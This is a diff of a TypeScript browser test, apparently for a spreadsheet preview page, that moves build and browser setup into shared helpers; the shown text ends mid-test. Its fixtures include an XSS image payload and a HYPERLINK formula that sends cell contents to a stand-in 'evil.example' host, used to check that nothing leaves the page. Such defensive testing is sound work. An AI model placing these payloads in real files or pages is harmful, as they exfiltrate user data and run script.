@@ -2,10 +2,9 @@
 // and hostile cell text (markup, formulas) shown literally. Needs /usr/bin/chromium and build/preview.html.
 import ExcelJS from 'exceljs';
 import type { Browser, Page } from 'playwright-core';
-import { launchChromium } from './chromium';
-import { serveBuild, type BuildServer } from '../../scripts/serve-build';
+import type { BuildServer } from '../../scripts/serve-build';
 import { SAMPLE_PATH } from '../support/sample';
-import { BUILD, ensureBuild } from './build-once';
+import { closeBuiltPages, openBuiltPages } from './build-once';
 
 const XSS = '<img src=x onerror=alert(1)>';
 const FORMULA = '=HYPERLINK("http://evil.example/steal?d="&A1,"点我")';
@@ -29,9 +28,7 @@ describe('browser preview: nothing leaves the page, cell text stays text', () =>
   const problems: string[] = [];
 
   beforeAll(async () => {
-    await ensureBuild();
-    server = await serveBuild({ root: BUILD });
-    browser = await launchChromium();
+    ({ server, browser } = await openBuiltPages());
     page = await browser.newPage({ viewport: { width: 420, height: 900 }, locale: 'zh-CN', acceptDownloads: true });
     page.on('request', (request) => requests.push(request.url()));
     page.on('dialog', (dialog) => {
@@ -60,10 +57,7 @@ describe('browser preview: nothing leaves the page, cell text stays text', () =>
     );
   }, 180_000);
 
-  afterAll(async () => {
-    await browser?.close();
-    await server?.close();
-  });
+  afterAll(() => closeBuiltPages({ server, browser }));
 
   it('runs a full check and report, requesting nothing but its own origin', async () => {
     await page
